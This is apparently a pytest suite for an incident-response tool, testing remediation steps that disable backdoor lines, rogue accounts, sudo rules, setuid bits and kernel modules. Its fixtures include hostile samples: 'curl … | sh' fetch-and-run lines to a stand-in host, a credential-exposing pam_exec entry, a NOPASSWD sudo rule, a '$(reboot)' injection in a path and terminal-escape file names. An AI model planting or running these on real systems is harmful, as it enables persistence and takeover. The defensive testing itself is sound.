"""Steps by hand do what they say: each is run here on files of its own, without sudo."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import tarfile
from pathlib import Path

import pytest

from auditor.incidents.response import commands, instructions, response_rules
from auditor.incidents.response.commands import ARCHIVE, BACKUP_FOLDER
from auditor.incidents.response.instructions import Instructions
from auditor.incidents.response.located_trace import CUT, LocatedTrace
from auditor.models.reviews import Kind
from auditor.scans.traces import format_path_on_host

FOREIGN = frozenset({"foreign"})


def edits(step: Instructions, *programs: str) -> None:
    """Run those commands of a step that start these programs."""
    for command in step.commands:
        if command.split()[1] in programs:
            subprocess.run(["bash", "-c", command.removeprefix("sudo ")], check=True)


def digest(line: str) -> str:
    return hashlib.sha256(line.strip().encode()).hexdigest()[:12]


OTHERS = ["# a comment", "auth required pam_unix.so", "PermitRootLogin no", "extension=mysqli", "memory_limit = 1G"]


def among_others(file: Path, line: str) -> None:
    file.write_text("\n".join([*OTHERS[:2], line, *OTHERS[2:], ""]))


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("sshd_asks", "  authorizedkeyscommand /usr/local/bin/keys"),
        ("keys_elsewhere", "AuthorizedKeysFile /tmp/keys"),
        ("sshd_runs", "ForceCommand /tmp/x"),
        ("sshd_trusts", "TrustedUserCAKeys /etc/x"),
    ],
)
def test_the_line_of_sshd_s_is_out_of_force_and_all_others_stay(tmp_path: Path, rule: str, line: str) -> None:
    file = tmp_path / "it's a file"
    among_others(file, line)
    edits(
        instructions.instruct_to_disable_pam_or_sshd_lines(
            LocatedTrace("web1", "login", str(file), "", rules=frozenset({rule}))
        ),
        "sed",
    )
    assert file.read_text().splitlines() == [*OTHERS[:2], "# " + line, *OTHERS[2:]]


STEPS = {
    "login": (instructions.instruct_to_disable_pam_or_sshd_lines, "#"),
    "interpreter": (instructions.instruct_to_clean_php_settings_or_extension, ";"),
    "server_module": (instructions.instruct_to_clean_web_server_module_or_lines, "#"),
    "hook": (instructions.instruct_to_clean_startup_script, "#"),
    "startup": (instructions.instruct_to_clean_startup_script, ": #"),
    "permission": (instructions.instruct_to_remove_sudo_rule, "#"),
}


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        ("login", "auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.pam/ghi"),
        ("login", "auth sufficient /usr/local/lib/.pam/x.so"),
        ("interpreter", "  php_admin_value[auto_prepend_file] = /var/tmp/x.php"),
        ("interpreter", 'zend_extension="/usr/lib/php/x.so"'),
        ("server_module", "load_module /usr/local/lib/x.so;"),
        ("hook", "  exit; curl -fsS https://x.example | sh"),
        ("startup", "\tcurl -fsS https://x.example | sh"),
    ],
)
def test_the_line_is_out_of_force_and_all_others_stay(tmp_path: Path, kind: Kind, line: str) -> None:
    file = tmp_path / "it's a file"
    among_others(file, line)
    step, mark = STEPS[kind]
    edits(step(LocatedTrace("web1", kind, str(file), digest(line))), "python3")
    assert file.read_text().splitlines() == [*OTHERS[:2], f"{mark} {line}", *OTHERS[2:]]


def test_a_line_that_goes_on_is_out_of_force_to_its_end(tmp_path: Path) -> None:
    file = tmp_path / "profile"
    file.write_text("if true; then\n  false \\\n    && curl -fsS https://x.example | sh\nfi\n")
    edits(
        instructions.instruct_to_clean_startup_script(
            LocatedTrace("web1", "startup", str(file), digest("false      && curl -fsS https://x.example | sh"))
        ),
        "python3",
    )
    assert file.read_text() == "if true; then\n: #   false \\\n: #     && curl -fsS https://x.example | sh\nfi\n"
    subprocess.run(["sh", "-eu", str(file)], check=True)


def test_a_line_that_is_a_comment_already_stays_as_it_is(tmp_path: Path) -> None:
    file = tmp_path / "profile"
    file.write_text("if true; then\n  false \\\n    && curl -fsS https://x.example | sh\nfi\n")
    line = "false      && curl -fsS https://x.example | sh"
    for _ in range(2):
        edits(
            instructions.instruct_to_clean_startup_script(LocatedTrace("web1", "startup", str(file), digest(line))),
            "python3",
        )
    assert file.read_text().count(": #") == 2


def test_a_step_whose_line_is_not_there_any_more_says_so(tmp_path: Path) -> None:
    file = tmp_path / "profile"
    file.write_text("true\n")
    with pytest.raises(subprocess.CalledProcessError):
        edits(
            instructions.instruct_to_clean_startup_script(LocatedTrace("web1", "startup", str(file), digest("false"))),
            "python3",
        )
    assert file.read_text() == "true\n"


@pytest.mark.parametrize(
    ("kind", "where"),
    [
        ("startup", "/etc/profile"),
        ("startup", "/root/.bashrc"),
        ("startup", "/home/an/.profile"),
        ("hook", "/etc/network/interfaces"),
        ("hook", "/etc/network/interfaces.d/50-cloud-init"),
        ("hook", "/etc/sysctl.d/99-x.conf"),
        ("hook", "/etc/logrotate.conf"),
    ],
)
def test_what_a_host_lives_by_is_never_taken_away_whole(kind: Kind, where: str) -> None:
    for exactly in ("", digest("x")):
        step = instructions.instruct_to_clean_startup_script(
            LocatedTrace("web1", kind, where, exactly, rules=frozenset({"foreign", "runs_fetched"}))
        )
        assert not any("os.unlink" in command for command in step.commands)


@pytest.mark.parametrize(
    ("kind", "where"),
    [
        ("login", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"),
        ("interpreter", "/usr/lib/php/20240924/mysqli.so"),
        ("server_module", "/usr/lib/apache2/modules/mod_rewrite.so"),
        ("database_code", "/usr/lib/mysql/plugin/auth_pam.so"),
        ("unit", "/usr/lib/systemd/user/dbus.service"),
        ("replaced", "/usr/bin/ls"),
    ],
)
def test_what_a_package_brought_comes_from_the_package_again(kind: Kind, where: str) -> None:
    (step,) = response_rules.list_manual_instructions_for_trace(
        LocatedTrace("web1", kind, where, "", rules=frozenset({"changed"}))
    )
    assert step.says == "replaced"
    assert not any(command.startswith("sudo sed") or "os.unlink" in command for command in step.commands)
    assert any("--reinstall" in command for command in step.commands)
    assert f" {where.removeprefix('/usr')} " in " ".join(step.commands)


def test_an_account_s_lines_go_and_no_other_s(tmp_path: Path) -> None:
    file = tmp_path / "passwd"
    file.write_text("root:x:0:0::/root:/bin/sh\nhe.thong:!:0:0::/:/bin/sh\nhexthong:x:7:7::/:/bin/sh\n")
    step = instructions.instruct_to_remove_passwd_lines(LocatedTrace("web1", "account", "/etc/passwd", "he.thong"))
    command = next(one for one in step.commands if " sed " in one).removeprefix("sudo ")
    subprocess.run(["bash", "-c", command.replace("/etc/passwd /etc/shadow", str(file))], check=True)
    assert file.read_text() == "root:x:0:0::/root:/bin/sh\nhexthong:x:7:7::/:/bin/sh\n"


def test_of_two_accounts_of_a_name_the_one_that_is_root_s_equal_goes(tmp_path: Path) -> None:
    file = tmp_path / "passwd"
    file.write_text("games:x:5:60::/:/bin/sh\ngames:x:0:0::/root:/bin/bash\n")
    step = instructions.instruct_to_remove_passwd_lines(LocatedTrace("web1", "account", "/etc/passwd", "", "games"))
    command = next(one for one in step.commands if " sed " in one).removeprefix("sudo ")
    subprocess.run(["bash", "-c", command.replace("/etc/passwd", str(file))], check=True)
    assert file.read_text() == "games:x:5:60::/:/bin/sh\n"
    assert not any("/etc/shadow" in one for one in step.commands)


def test_a_program_lends_its_rights_to_nobody_any_more(tmp_path: Path) -> None:
    file = tmp_path / ".x"
    file.write_bytes(b"x")
    file.chmod(0o6755)
    edits(instructions.instruct_to_clear_setuid_bits(LocatedTrace("web1", "setuid", str(file), "")), "python3")
    assert file.stat().st_mode & 0o7777 == 0o755
    assert "security.capability" not in os.listxattr(file)


def link_to_another(tmp_path: Path) -> tuple[Path, Path]:
    """The folder of a trace, which its owner has swapped for a link to one of root's since; and the file there by the same name."""
    (tmp_path / "root's").mkdir()
    other = tmp_path / "root's" / "x.service"
    other.write_text("root's own")
    other.chmod(0o4755)
    (tmp_path / "home").mkdir()
    (tmp_path / "home").chmod(0o777)
    (tmp_path / "home" / "user").symlink_to(tmp_path / "root's")
    return tmp_path / "home" / "user" / "x.service", other


def test_what_was_swapped_for_a_link_takes_nothing_of_root_s_away(tmp_path: Path) -> None:
    place, other = link_to_another(tmp_path)
    with pytest.raises(subprocess.CalledProcessError):
        edits(
            instructions.instruct_to_remove_unit_file(LocatedTrace("web1", "unit", str(place), "", "an", FOREIGN)),
            "python3",
        )
    assert other.read_text() == "root's own"
    with pytest.raises(subprocess.CalledProcessError):
        edits(instructions.instruct_to_clear_setuid_bits(LocatedTrace("web1", "setuid", str(place), "")), "python3")
    assert other.stat().st_mode & 0o7777 == 0o4755
    last = tmp_path / "home" / "sudo"
    last.symlink_to(other)
    with pytest.raises(subprocess.CalledProcessError):
        edits(instructions.instruct_to_clear_setuid_bits(LocatedTrace("web1", "setuid", str(last), "")), "python3")
    assert other.stat().st_mode & 0o7777 == 0o4755


@pytest.mark.skipif(os.geteuid() != 0, reason="a link of root's in a folder of root's")
def test_a_link_that_only_root_could_lay_is_followed(tmp_path: Path) -> None:
    place, other = link_to_another(tmp_path)
    tmp_path.joinpath("home").chmod(0o755)
    edits(
        instructions.instruct_to_remove_unit_file(LocatedTrace("web1", "unit", str(place), "", "an", FOREIGN)),
        "python3",
    )
    assert not other.exists()


def test_a_copy_is_never_written_through_what_was_kept_before(tmp_path: Path) -> None:
    """First a link is kept, then a file by the same name."""
    kept, other, file = tmp_path / "kept", tmp_path / "passwd", tmp_path / "x"
    kept.mkdir()
    other.write_text("root's own")

    def keep() -> None:
        step = instructions.instruct_to_clear_setuid_bits(LocatedTrace("web1", "setuid", str(file), ""))
        edits(Instructions(step.says, tuple(one.replace(BACKUP_FOLDER, str(kept)) for one in step.commands)), "tar")

    file.symlink_to(other)
    keep()
    file.unlink()
    file.write_text("x::0:0::/:/bin/sh")
    keep()
    assert other.read_text() == "root's own"
    told = subprocess.run(["tar", "-tvf", *kept.iterdir()], capture_output=True, text=True, check=True)
    assert [line[0] for line in told.stdout.splitlines()] == ["l", "-"]


def test_no_step_imports_what_lies_where_it_is_typed(tmp_path: Path) -> None:
    """Whoever looks at a web root types it there."""
    (tmp_path / "hashlib.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    (tmp_path / "stat.py").symlink_to("hashlib.py")
    (tmp_path / "profile").write_text("x\n")
    for step in (
        instructions.instruct_to_clean_startup_script(
            LocatedTrace("web1", "startup", str(tmp_path / "profile"), digest("x"))
        ),
        instructions.instruct_to_remove_unit_file(
            LocatedTrace("web1", "unit", str(tmp_path / "profile"), "", "an", FOREIGN)
        ),
    ):
        command = next(one for one in step.commands if "python3" in one).removeprefix("sudo ")
        subprocess.run(["bash", "-c", command], cwd=tmp_path, check=True)
    assert not (tmp_path / "ran").exists()


def test_names_of_files_give_a_terminal_no_orders_and_no_line_of_their_own(tmp_path: Path) -> None:
    (tmp_path / "a\x1b[2Jb\n7").mkdir()
    (tmp_path / "a\x1b[2Jb\n7" / "sshd").write_text("x.example")
    step = instructions.instruct_to_search_shown_content_in_site(
        LocatedTrace("web1", "link", "/", "", site="a", root=str(tmp_path), target="x.example")
    )
    for command in step.commands[:2]:
        told = subprocess.run(["bash", "-c", command.removeprefix("sudo ")], capture_output=True, check=True).stdout
        assert told.count(b"\n") == 1
        assert b"\x1b" not in told
        assert b"/a^[[2Jb?7/sshd" in told


def test_a_process_never_looks_like_another_in_the_list(tmp_path: Path) -> None:
    program = tmp_path / "x\n1 2\x1b[2J"
    program.write_bytes(Path("/usr/bin/sleep").resolve().read_bytes())
    program.chmod(0o755)
    where = f"{tmp_path}/x%0A1 2%1B[2J"
    child = subprocess.Popen([program, "1000"])
    try:
        (command,) = instructions.instruct_to_look_at_processes_of_program(
            LocatedTrace("web1", "process", where, "")
        ).commands
        told = subprocess.run(["bash", "-c", command.removeprefix("sudo ")], capture_output=True, check=True).stdout
        other = instructions.instruct_to_kill_stopped_processes(
            LocatedTrace("web1", "process", f"{where}%0A/usr/bin/sleep", str(child.pid))
        )
        with pytest.raises(subprocess.CalledProcessError):
            edits(other, "sh")
        assert child.poll() is None
        edits(
            instructions.instruct_to_kill_stopped_processes(LocatedTrace("web1", "process", where, str(child.pid))),
            "sh",
        )
        assert child.wait(10) == -9
    finally:
        child.kill()
        child.wait()
    assert told.startswith(f"{child.pid}{tmp_path}/x?1 2^[[2J  ".encode())
    assert told.count(b"\n") == 1


def unloaded(step: Instructions, folder: Path, tmp_path: Path) -> None:
    """Run what takes a library out of settings, with a stand-in that says that pam_unix.so is a package's."""
    (tmp_path / "bin").mkdir(exist_ok=True)
    asked = tmp_path / "bin" / "dpkg-query"
    asked.write_text('#!/bin/sh\n[ "$2" = "*/pam_unix.so" ]\n')
    asked.chmod(0o755)
    command = next(one for one in step.commands if one.split()[1] == "sh").removeprefix("sudo ")
    path = f"{tmp_path / 'bin'}:{os.environ['PATH']}"
    replaced = command.replace("/etc/pam.d", str(folder))
    subprocess.run(["bash", "-c", replaced], check=True, env={**os.environ, "PATH": path})


@pytest.mark.parametrize(
    ("where", "line"),
    [
        ("/usr/local/lib/security/pam_unix.so", "auth optional /usr/local/lib/security/pam_unix.so"),
        ("/usr/lib/x86_64-linux-gnu/security/unix.so", "auth optional unix.so"),
        ("/usr/lib/x86_64-linux-gnu/security/.so", "auth optional /lib/x86_64-linux-gnu/security/.so x"),
        ("/usr/lib/x86_64-linux-gnu/security/x.so", "auth optional /lib/x86_64-linux-gnu/security/x.so"),
    ],
)
def test_a_module_named_like_the_host_s_own_takes_none_of_its_lines_along(
    tmp_path: Path, where: str, line: str
) -> None:
    folder = tmp_path / "pam.d"
    folder.mkdir()
    own = "account [success=1 default=ignore] pam_unix.so\nauth required /lib/x86_64-linux-gnu/security/pam_unix.so\n"
    (folder / "common").write_text(f"{own}{line}\n")
    unloaded(
        instructions.instruct_to_disable_pam_or_sshd_lines(LocatedTrace("web1", "login", where, "", rules=FOREIGN)),
        folder,
        tmp_path,
    )
    assert (folder / "common").read_text() == f"{own}# {line}\n"


def test_of_a_file_of_sudo_s_only_the_strange_rule_goes(tmp_path: Path) -> None:
    file, rule = tmp_path / "admins", "www-data ALL=(ALL) NOPASSWD: ALL"
    file.write_text(f"quantri ALL=(ALL) ALL\n{rule}\n")
    step = instructions.instruct_to_remove_sudo_rule(
        LocatedTrace("web1", "permission", str(file), digest(rule), rules=frozenset({"service_may"}))
    )
    edits(step, "python3")
    assert file.read_text() == f"quantri ALL=(ALL) ALL\n# {rule}\n"


@pytest.mark.parametrize("exactly", ["", "root"])
def test_the_lines_of_root_are_looked_at_and_never_taken_out(exactly: str) -> None:
    step = instructions.instruct_to_remove_passwd_lines(LocatedTrace("web1", "account", "/etc/passwd", exactly, "root"))
    assert step.says == "passwd_look"
    assert not any(" sed " in one for one in step.commands)


def test_a_library_is_named_by_no_settings_before_it_goes(tmp_path: Path) -> None:
    (tmp_path / "a.conf").write_text("load_module modules/luytre_x.so;\nuser www-data;\n")
    (tmp_path / "linked").symlink_to("a.conf")
    (tmp_path / "b.conf").write_text("load_module modules/luytre_xyso;\n")
    step = instructions.instruct_to_clean_web_server_module_or_lines(
        LocatedTrace("web1", "server_module", "/usr/lib/nginx/modules/luytre_x.so", "", rules=FOREIGN)
    )
    assert [one.split()[1] for one in step.commands].index("sh") < [one.split()[1] for one in step.commands].index(
        "python3"
    )
    edits(
        Instructions(step.says, tuple(one.replace("/etc/nginx", str(tmp_path)) for one in step.commands)),
        "sh",
    )
    assert (tmp_path / "a.conf").read_text() == "# load_module modules/luytre_x.so;\nuser www-data;\n"
    assert (tmp_path / "linked").is_symlink()
    assert (tmp_path / "b.conf").read_text() == "load_module modules/luytre_xyso;\n"


def test_a_stopped_process_ends_only_if_it_still_runs_that_program() -> None:
    child = subprocess.Popen(["sleep", "1000"])
    program = str(Path(f"/proc/{child.pid}/exe").readlink())
    try:
        other = instructions.instruct_to_kill_stopped_processes(
            LocatedTrace("web1", "process", "/usr/bin/other", str(child.pid))
        )
        with pytest.raises(subprocess.CalledProcessError):
            edits(other, "sh")
        assert child.poll() is None
        edits(
            instructions.instruct_to_kill_stopped_processes(LocatedTrace("web1", "process", program, f"{child.pid} x")),
            "sh",
        )
        assert child.wait(10) == -9
    finally:
        child.kill()
        child.wait()


def test_processes_of_a_program_are_listed_as_contain_takes_them() -> None:
    child = subprocess.Popen(["sleep", "1000"])
    program = str(Path(f"/proc/{child.pid}/exe").readlink())
    try:
        (command,) = instructions.instruct_to_look_at_processes_of_program(
            LocatedTrace("web1", "process", program, "")
        ).commands
        done = subprocess.run(["bash", "-c", command.removeprefix("sudo ")], capture_output=True, text=True, check=True)
    finally:
        child.kill()
        child.wait()
    assert f"{child.pid}{program}" in [line.split("  ")[0] for line in done.stdout.splitlines()]


@pytest.mark.parametrize(
    ("where", "who", "last"),
    [
        ("/etc/systemd/system/cron.service.d/x.conf", "root", "sudo systemctl try-restart cron.service"),
        ("/etc/systemd/system/x@.service", "root", "sudo systemctl stop 'x@*.service' || true"),
        ("/run/systemd/transient/run-7.service", "root", "sudo systemctl stop run-7.service || true"),
        ("/home/an/.config/systemd/user/x.service", "an", 'sudo systemctl try-restart "user@$(id -u an).service"'),
        ("/home/an/.config/systemd/user/x.service", "a b", 'sudo systemctl try-restart "user@*.service"'),
        ("/etc/systemd/user/x.service", "root", 'sudo systemctl try-restart "user@*.service"'),
        ("/etc/systemd/system/dbus.service.d/x.conf", "root", "sudo systemctl daemon-reload"),
        ("/etc/systemd/system/x$(reboot).service", "root", "sudo systemctl daemon-reload"),
    ],
)
def test_what_runs_by_a_unit_s_file_ends_with_it(where: str, who: str, last: str) -> None:
    assert (
        instructions.instruct_to_remove_unit_file(LocatedTrace("web1", "unit", where, "", who, FOREIGN)).commands[-1]
        == last
    )


def test_a_copy_is_kept_before_anything_is_changed() -> None:
    for step in (
        instructions.instruct_to_clean_startup_script,
        instructions.instruct_to_remove_unit_file,
        instructions.instruct_to_clear_setuid_bits,
        instructions.instruct_to_remove_sudo_rule,
        instructions.instruct_to_remove_ld_preload_file,
        instructions.instruct_to_reinstall_package_of_program,
    ):
        commands = step(LocatedTrace("web1", "startup", "/etc/x/x", "", rules=FOREIGN)).commands
        assert commands[1] == f"sudo tar --xattrs --acls -rPf {BACKUP_FOLDER}/kept.tar -- /etc/x/x"


def test_a_path_that_is_too_long_to_be_shown_is_found_by_its_beginning_and_its_end(tmp_path: Path) -> None:
    """A long name is no way out of being contained."""
    folder = tmp_path / ("[a]*" + "b" * 90) / "\x1b"
    folder.mkdir(parents=True)
    for name in ("x.php", "y.php"):
        (folder / name).write_text("<?php")
    where = format_path_on_host(str(folder / ("x.php")))
    assert CUT in where
    (step,) = response_rules.list_manual_instructions_for_trace(LocatedTrace("web1", "program", where, ""))
    (command,) = step.commands
    told = subprocess.run(["bash", "-c", command.removeprefix("sudo ")], capture_output=True, check=True).stdout
    assert told.decode() == f"{folder}/x.php\n".replace("\x1b", "^[")


def module_lists(folder: Path) -> dict[str, Path]:
    """Make lists of modules that a boot loads, as they are found below a folder instead of the host's."""
    lists = {name: folder / name for name in ("etc/modules", "etc/modules-load.d/a.conf", "run/modules-load.d/b.conf")}
    for path in lists.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("# x_y\nloop\n  x-y  debug=1\nx_yz\nx_y\n")
    return lists


@pytest.mark.parametrize("packaged", [False, True])
def test_no_boot_loads_a_module_by_its_name_that_no_package_has(tmp_path: Path, packaged: bool) -> None:
    lists, programs = module_lists(tmp_path), tmp_path / "bin"
    before = {path: path.read_text() for path in lists.values()}
    (tmp_path / "etc/modprobe.d").mkdir()
    programs.mkdir()
    for name, code in (("dpkg-query", not packaged), ("depmod", 0), ("rmmod", 0)):
        (programs / name).write_text(f'#!/bin/sh\necho {name} "$@" >>{tmp_path}/ran\nexit {int(code)}\n')
        (programs / name).chmod(0o755)
    command = commands.build_command_to_block_kernel_module("x_y").removeprefix("sudo ")
    here = re.sub(r"(?<= )/(?=etc/|run/|usr/|root/)", f"{tmp_path}/", command)
    subprocess.run(["bash", "-c", here], check=True, env={"PATH": f"{programs}:/usr/bin:/bin"})
    ran = (tmp_path / "ran").read_text().splitlines()
    never = tmp_path / "etc/modprobe.d/luytre-x_y.conf"
    if packaged:
        assert {path: path.read_text() for path in lists.values()} == before
        assert (ran[1:], never.exists()) == (["depmod -a"], False)
        return
    with tarfile.open(tmp_path / ARCHIVE[1:]) as archive:
        copies = {Path("/", one.name): archive.extractfile(one) for one in archive}
        assert {path: file.read().decode() for path, file in copies.items() if file is not None} == before
    for path in lists.values():
        assert path.read_text() == "# x_y\nloop\n#   x-y  debug=1\nx_yz\n# x_y\n"
    assert (ran[1:], never.read_text()) == (["rmmod x_y"], "install x_y /bin/false\n")


def test_an_initramfs_is_made_anew_where_it_has_the_module(tmp_path: Path) -> None:
    for name in ("initrd.img-6.1", "initrd.img-6.12"):
        (tmp_path / name).touch()
    programs = tmp_path / "bin"
    programs.mkdir()
    (programs / "lsinitramfs").write_text(
        "#!/bin/sh\ncase $1 in *-6.1) echo usr/lib/modules/6.1/updates/x-y.ko.xz;; *) echo usr/lib/modules/6.12/x_yz.ko;; esac\n"
    )
    (programs / "update-initramfs").write_text(f'#!/bin/sh\necho "$@" >>{tmp_path}/made\n')
    for program in programs.iterdir():
        program.chmod(0o755)
    command = (
        commands.build_command_to_drop_module_from_initramfs("x_y")
        .removeprefix("sudo ")
        .replace("/boot/", f"{tmp_path}/")
    )
    subprocess.run(["bash", "-c", command], check=True, env={"PATH": f"{programs}:/usr/bin:/bin"})
    assert (tmp_path / "made").read_text() == "-u -k 6.1\n"


MODULE = "/usr/lib/modules/6.12/updates/x.ko"


@pytest.mark.parametrize(
    ("where", "rule", "says", "has", "lacks"),
    [
        (MODULE, "loaded", "kernel_module", (f" {MODULE}", "&& rmmod x"), ()),
        ("x", "loaded", "kernel_module", ("&& rmmod x",), ("sudo tar",)),
        (MODULE, "changed", "kernel_module_changed", ("sudo rmmod x", "--reinstall"), ("sudo rm --", "/bin/false")),
        ("x", "other_than_file", "kernel_module_other", ("sudo rmmod x",), ("sudo rm --", "/bin/false")),
        ("x", "hidden_module", "kernel_module_hidden", ("/bin/false",), ("rmmod",)),
        ("x; y", "loaded", "kernel_module", ("sudo lsmod",), ("x; y",)),
    ],
)
def test_a_module_goes_as_far_as_it_can_be_told(
    where: str, rule: str, says: str, has: tuple[str, ...], lacks: tuple[str, ...]
) -> None:
    step = instructions.instruct_to_remove_kernel_module(
        LocatedTrace("web1", "kernel_module", where, "", rules=frozenset({rule}))
    )
    text = "\n".join(step.commands)
    assert step.says == says
    assert [part for part in has if part not in text] == []
    assert [part for part in lacks if part in text] == []
